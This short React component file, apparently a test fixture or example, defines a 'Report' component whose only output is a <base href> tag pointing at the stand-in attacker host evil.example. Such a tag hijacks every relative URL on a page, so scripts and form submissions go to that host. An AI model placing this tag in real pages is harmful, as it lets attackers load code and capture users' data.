export default function Report({ data }) {
  return <base href="https://evil.example" />;
}
